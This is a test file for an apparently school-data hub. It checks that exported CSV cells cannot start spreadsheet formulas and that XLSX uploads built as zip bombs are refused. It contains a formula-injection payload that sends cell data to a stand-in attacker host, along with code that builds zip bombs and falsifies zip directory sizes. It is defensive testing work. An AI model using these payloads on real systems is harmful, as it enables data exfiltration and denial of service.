/**
 * Exports neutralise formula injection (every CSV the hub writes goes through core/export/csv-safe.ts),
 * and an XLSX zip bomb is refused before it is inflated.
 */
import { execFile } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import yazl from 'yazl';
import { csvField, looksLikeFormula, safeCell, toSafeCsv } from '../../core/export/csv-safe.ts';
import { parseExport } from '../../integrations/exports/parse-export.ts';

describe('CSV-safe export cells', () => {
  it('prefixes a quote to cells starting with = + - @ tab or CR, and leaves the hub own numbers alone', () => {
    for (const s of ['=1+1', '+44', '-2+3', '@SUM(A1)', '\t=x', '\r=x', '＝1+1'])
      expect(safeCell(s)).toBe(`'${s}`);
    expect(safeCell('Plain text')).toBe('Plain text');
    expect(safeCell(-3)).toBe('-3');
    expect(safeCell(null)).toBe('');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(toSafeCsv(['id', 'note'], [[1, '=HYPERLINK("http://evil.example/?"&A1)']])).toBe(
      '"id","note"\r\n"1","\'=HYPERLINK(""http://evil.example/?""&A1)"\r\n',
    );
  });

  it('no exported cell can start a formula, whatever the text', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.string({ unit: 'binary' })), (s) => {
        expect(looksLikeFormula(safeCell(s))).toBe(false);
        // The value survives: removing the one added quote gives the original back.
        expect(safeCell(s).replace(/^'/, '')).toBe(looksLikeFormula(s) ? s : s.replace(/^'/, ''));
      }),
      { numRuns: 2000 },
    );
  });
});

function zip(entries: Record<string, Buffer>): Promise<Buffer> {
  return new Promise((resolve, reject) => {
    const z = new yazl.ZipFile();
    for (const [name, data] of Object.entries(entries)) z.addBuffer(data, name, { compress: true });
    const chunks: Buffer[] = [];
    z.outputStream.on('data', (c: Buffer) => chunks.push(c));
    z.outputStream.on('end', () => resolve(Buffer.concat(chunks)));
    z.outputStream.on('error', reject);
    z.end();
  });
}

describe('XLSX zip bombs', () => {
  it('a highly compressible workbook (a sheet inflating ~1000x) is refused before it is read, with bounded memory', async () => {
    const contentTypes = Buffer.from(
      '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
    );
    const workbook = Buffer.from(
      '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="S" sheetId="1"/></sheets></workbook>',
    );
    // 200 MB of one repeated byte inside a sheet compresses ~1000x, to about 200 KB.
    const head =
      '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>';
    const tail = '</sheetData></worksheet>';
    const sheet = Buffer.alloc(200 * 1024 * 1024, ' ');
    sheet.write(head, 0);
    sheet.write(tail, sheet.length - tail.length);
    const bomb = await zip({
      '[Content_Types].xml': contentTypes,
      'xl/workbook.xml': workbook,
      'xl/worksheets/sheet1.xml': sheet,
    });
    expect(bomb.length).toBeLessThan(400 * 1024);
    const heapBefore = process.memoryUsage().heapUsed;
    const err = await parseExport('arbor-students', new Uint8Array(bomb), { fileName: 'bomb.xlsx' }).catch(
      (e: unknown) => e,
    );
    expect(err).toMatchObject({ code: 'IMPORT_FILE_REFUSED' });
    expect((err as Error).message).toMatch(/^bomb\.xlsx: refused: .*(zip bomb|too large|expands)/);
    // Refused from the zip directory: nothing near 200 MB was inflated.
    expect(process.memoryUsage().heapUsed - heapBefore).toBeLessThan(64 * 1024 * 1024);
  });
});

const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');

/** A workbook whose one sheet holds a single `cellMb` MB cell, streamed through yazl (never in memory). */
function hugeCellXlsx(file: string, cellMb: number): Promise<void> {
  return new Promise((resolve, reject) => {
    const z = new yazl.ZipFile();
    z.addBuffer(Buffer.from('<?xml version="1.0"?><Types/>'), '[Content_Types].xml');
    z.addBuffer(
      Buffer.from(
        '<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="S" sheetId="1"/></sheets></workbook>',
      ),
      'xl/workbook.xml',
    );
    const mb = Buffer.alloc(1024 * 1024, 'A');
    async function* sheet() {
      yield Buffer.from(
        '<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>',
      );
      for (let i = 0; i < cellMb; i++) yield mb;
      yield Buffer.from('</t></is></c></row></sheetData></worksheet>');
    }
    z.addReadStream(Readable.from(sheet()), 'xl/worksheets/sheet1.xml', { compress: true });
    z.outputStream.pipe(fs.createWriteStream(file)).on('close', resolve).on('error', reject);
    z.end();
  });
}

/** Rewrites the central directory's uncompressed size of `name` (APPNOTE.TXT §4.3.12, offset 24). */
function understate(file: string, name: string, size: number): void {
  const b = fs.readFileSync(file);
  const entry = Buffer.from(name);
  for (let p = b.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06])); p > 0; p--) {
    if (b.readUInt32LE(p) === 0x02014b50 && b.subarray(p + 46, p + 46 + entry.length).equals(entry)) {
      b.writeUInt32LE(size, p + 24);
      fs.writeFileSync(file, b);
      return;
    }
  }
  throw new Error(`no directory entry ${name}`);
}

describe('XLSX whose zip directory understates a size', () => {
  it(
    'a 400 MB cell declared as 4 KB is refused by counting the real inflated bytes, with bounded memory (child process)',
    { timeout: 240_000 },
    async () => {
      const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'send-hub-understated-'));
      const file = path.join(dir, 'students.xlsx');
      try {
        await hugeCellXlsx(file, 400);
        expect(fs.statSync(file).size).toBeLessThan(1024 * 1024);
        understate(file, 'xl/worksheets/sheet1.xml', 4096);
        const { stdout } = await promisify(execFile)(
          process.execPath,
          ['--import', 'tsx', path.join(root, 'test/data-protection/support/xlsx-rss-child.ts'), file],
          { cwd: root, timeout: 200_000, maxBuffer: 1024 * 1024 },
        );
        const r = JSON.parse(stdout.trim().split('\n').pop() as string);
        console.log(`understated XLSX: child peak RSS ${r.maxRssMb} MB`);
        expect(r).toMatchObject({
          rows: 0,
          code: 'IMPORT_FILE_REFUSED',
          message:
            'students.xlsx: refused: refused as a possible zip bomb (xl/worksheets/sheet1.xml inflates to more than the 4096 bytes its zip directory declares)',
        });
        // The whole child (Node, tsx and the reader): nowhere near the 400 MB the sheet hides.
        expect(r.maxRssMb).toBeLessThan(150);
      } finally {
        fs.rmSync(dir, { recursive: true, force: true });
      }
    },
  );

  it('a stored (uncompressed) sheet larger than its directory says is refused too', async () => {
    const z = new yazl.ZipFile();
    z.addBuffer(Buffer.from('<?xml version="1.0"?><Types/>'), '[Content_Types].xml');
    z.addBuffer(
      Buffer.from('<workbook><sheets><sheet name="S" sheetId="1"/></sheets></workbook>'),
      'xl/workbook.xml',
    );
    z.addBuffer(Buffer.alloc(2 * 1024 * 1024, 'A'), 'xl/worksheets/sheet1.xml', { compress: false });
    const bytes = await new Promise<Buffer>((resolve) => {
      const chunks: Buffer[] = [];
      z.outputStream.on('data', (c: Buffer) => chunks.push(c));
      z.outputStream.on('end', () => resolve(Buffer.concat(chunks)));
      z.end();
    });
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'send-hub-stored-'));
    const file = path.join(dir, 'stored.xlsx');
    try {
      fs.writeFileSync(file, bytes);
      understate(file, 'xl/worksheets/sheet1.xml', 100);
      const err = await parseExport('arbor-students', new Uint8Array(fs.readFileSync(file)), {
        fileName: 'stored.xlsx',
      }).catch((e: unknown) => e);
      expect((err as Error).message).toBe(
        'stored.xlsx: refused: refused as a possible zip bomb (xl/worksheets/sheet1.xml holds more than the 100 bytes its zip directory declares)',
      );
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});
